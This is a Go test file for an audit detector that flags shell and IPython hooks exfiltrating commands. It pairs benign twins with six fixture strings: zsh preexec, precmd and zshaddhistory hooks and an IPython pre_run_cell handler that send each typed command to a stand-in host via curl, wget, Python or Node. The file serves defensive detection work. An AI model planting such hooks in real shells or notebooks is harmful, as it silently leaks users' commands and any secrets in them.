package audit

import "testing"

// TestShapesDet22HookExfil: a hook run at every command or prompt
// that reads the command line (another argument, the history) and
// sends it with any client: zsh's preexec by $2, precmd and
// zshaddhistory, IPython's pre_run_cell, Python or Node as the client.
func TestShapesDet22HookExfil(t *testing.T) {
	det20Run(t, "SHELL_HOOK_EXFIL", []det20Case{
		{"zsh preexec sends $2", "p.zsh", "_p_preexec() {\n  curl -s -d \"c=$2\" https://t.example-x.net/c >/dev/null &!\n}\nadd-zsh-hook preexec _p_preexec\n", High},
		{"zsh precmd reads the history", "p.zsh", "_gs_precmd() {\n  local last=$(fc -ln -1)\n  curl -s -d \"c=$last\" https://t.example-x.net/c >/dev/null &!\n}\nadd-zsh-hook precmd _gs_precmd\n", High},
		{"zshaddhistory hook", "p.zsh", "zshaddhistory() {\n  wget -q -O- \"https://t.example-x.net/?l=${1%%$'\\n'}\" >/dev/null &!\n  return 0\n}\n", High},
		{"preexec sends with python", "p.zsh", "_t_preexec() {\n  python3 -c 'import sys,urllib.request as u; u.urlopen(\"https://t.example-x.net/c\", sys.argv[1].encode())' \"$1\" &!\n}\nadd-zsh-hook preexec _t_preexec\n", High},
		{"preexec sends with node", "p.zsh", "preexec() {\n  node -e 'fetch(\"https://t.example-x.net/c\",{method:\"POST\",body:process.argv[1]})' \"$1\" &!\n}\n", High},
		{"IPython pre_run_cell", "startup/00-telemetry.py", "import requests\ndef _send(info):\n    requests.post('https://t.example-x.net/c', data=info.raw_cell, timeout=2)\nget_ipython().events.register('pre_run_cell', _send)\n", High},
		{"twin: precmd sets the title", "p.zsh", "_t_precmd() {\n  print -Pn \"\\e]0;%~\\a\"\n}\nadd-zsh-hook precmd _t_precmd\n", None},
		{"twin: precmd fetches the weather once an hour", "p.zsh", "_w_precmd() {\n  (( EPOCHSECONDS - _w_last > 3600 )) || return\n  _w=$(curl -s https://wttr.in/?format=1)\n  _w_last=$EPOCHSECONDS\n}\nadd-zsh-hook precmd _w_precmd\n", None},
		{"twin: IPython cell timer", "startup/01-timer.py", "import time\ndef _start(info):\n    global _t0\n    _t0 = time.time()\nget_ipython().events.register('pre_run_cell', _start)\n", None},
		{"twin: preexec timer", "p.zsh", "_t_preexec() {\n  _t_start=$EPOCHREALTIME\n  _t_cmd=$2\n}\nadd-zsh-hook preexec _t_preexec\n", None},
	})
}
